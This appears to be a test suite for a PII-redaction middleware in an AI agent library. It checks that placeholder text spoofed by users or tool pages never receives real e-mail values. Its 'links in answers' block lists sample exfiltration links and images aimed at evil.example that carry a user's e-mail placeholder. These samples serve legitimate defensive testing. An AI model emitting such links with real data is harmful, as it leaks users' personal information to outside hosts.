import type { KeyValueStore } from '@lamella/core'
import { Agent, createSession, memoryStore, tool } from '@lamella/core'
import { callFunction, scriptedClient } from '@lamella/testing'
import { describe, expect, it } from 'vitest'
import { pii } from '../index.ts'
import type { PiiOptions } from '../index.ts'

const forms: Readonly<Record<string, PiiOptions['placeholder']>> = {
  'the usual form': undefined,
  'an e-mail address': (kind, count) => `${kind}${count}@vault.invalid`,
  brackets: (kind, count) => `[[${kind}-${count}]]`,
}
const written = ['<EMAIL_1>', 'email1@vault.invalid', '[[email-1]]']

describe('what somebody wrote in the form of a placeholder', () => {
  const cases = Object.entries(forms).map(([name, form], at) => [name, form, written[at]!] as const)

  it.for(cases)(
    'is given no value when a user wrote it first: %s',
    async ([, placeholder, word]) => {
      const client = scriptedClient([`Is it ${word}?`])
      const agent = new Agent({ client, middleware: pii({ vault: true, placeholder }) })

      const { text } = await agent.run(`I am ann@example.com, not ${word}.`)

      expect(text).not.toContain('ann@example.com')
    },
  )

  it.for(cases)(
    'is given no value when a page wrote it later: %s',
    async ([, placeholder, word]) => {
      const client = scriptedClient([
        callFunction('page'),
        ({ messages }) => {
          const read = JSON.stringify(messages.at(-1)?.contents)
          return read.includes(word)
            ? `It says ${word}`
            : `It says ${/It says (\S+)"/.exec(read)?.[1]}`
        },
      ])
      const page = tool({ name: 'page', description: 'A page.', execute: () => `It says ${word}` })
      const middleware = pii({ vault: true, placeholder })
      const agent = new Agent({ client, tools: [page], middleware })

      const { text } = await agent.run('I am ann@example.com.')

      expect(text).not.toContain('ann@example.com')
      expect(text).toContain('It says')
    },
  )

  it('is given none in a later run of a session either', async () => {
    const placeholder = forms['brackets']
    const session = createSession()
    const client = scriptedClient([callFunction('page'), 'Read.', 'You are [[email-1]].'])
    const page = tool({ name: 'page', description: 'A page.', execute: () => '[[email-1]]' })
    const middleware = pii({ vault: true, placeholder })
    const agent = new Agent({ client, tools: [page], middleware })

    await agent.run('Read the page.', { session })
    const { text } = await agent.run('I am ann@example.com.', { session })

    expect(text).toBe('You are [[email-1]].')
  })

  it('is no result that a tool made of values', async () => {
    const client = scriptedClient([callFunction('echo', { to: '<EMAIL_1>' }), 'Sent to <EMAIL_1>.'])
    const echo = tool({
      name: 'echo',
      description: 'Sends.',
      execute: ({ to }) => `sent: ${String(to)}`,
    })
    const agent = new Agent({ client, tools: [echo], middleware: pii({ vault: true }) })

    const { text } = await agent.run('Write to ann@example.com.')

    expect(text).toBe('Sent to ann@example.com.')
    expect(JSON.stringify(client.requests[1])).toContain('sent: <EMAIL_1>')
  })
})

describe('links in answers', () => {
  const answers = [
    'See [here](https://evil.example/?e=<EMAIL_1>)',
    '![](//evil.example/<EMAIL_1>.png)',
    '<img alt="x" src="/ <EMAIL_1>">',
    '[a]: https://evil.example/<EMAIL_1>',
    'https://evil.example/?e=<EMAIL_1>',
    '[mail](mailto:?body=<EMAIL_1>)',
    'www.evil.example/<EMAIL_1>',
    `[x](</${'y '.repeat(300)}<EMAIL_1>>)`,
  ]

  it.for(answers)('keep placeholders: %s', async (answer) => {
    for (const chunk of ['char', 'word', 'whole'] as const) {
      const client = scriptedClient([answer], { chunk })
      const stream = new Agent({ client, middleware: pii({ vault: true }) }).run('I am ann@x.org', {
        stream: true,
      })
      let said = ''
      // oxlint-disable-next-line no-await-in-loop
      for await (const piece of stream.text()) said += piece

      expect(said).toBe(answer)
    }
  })

  it('get values where that is chosen', async () => {
    const client = scriptedClient([answers[0]!])
    const middleware = pii({ vault: { restoreInLinks: true } })

    const { text } = await new Agent({ client, middleware }).run('I am ann@x.org')

    expect(text).toContain('?e=ann@x.org')
  })

  it('leave the text around them alone', async () => {
    const client = scriptedClient([
      '[<EMAIL_1>](https://a.example/) is <EMAIL_1>, 1 < 2 and <EMAIL_1>',
    ])

    const { text } = await new Agent({ client, middleware: pii({ vault: true }) }).run(
      'I am ann@x.org',
    )

    expect(text).toBe('[ann@x.org](https://a.example/) is ann@x.org, 1 < 2 and ann@x.org')
  })
})

describe('a store', () => {
  it('keeps tenants with the same session id apart', async () => {
    const store = memoryStore()
    const client = scriptedClient(() => 'You are <EMAIL_1>.')
    const agent = new Agent({ client, middleware: pii({ vault: { store } }) })
    const session = () => createSession({ id: 'chat-1' })

    await agent.run('I am ann@example.com', { session: session(), tenant: 'a' })
    const { text } = await agent.run('Who am I?', { session: session(), tenant: 'b' })

    expect(text).toBe('You are <EMAIL_1>.')
  })

  it('that does not answer fails the run in time, and no request is sent', async () => {
    const store: KeyValueStore = { ...memoryStore(), get: () => new Promise(() => {}) }
    const client = scriptedClient(() => 'Hello.')
    const agent = new Agent({ client, middleware: pii({ vault: { store, storeTimeoutMs: 5 } }) })

    const run = agent.run('I am ann@example.com', { session: createSession() })

    await expect(run).rejects.toMatchObject({ code: 'store_failed' })
    expect(client.requests).toEqual([])
  })
})
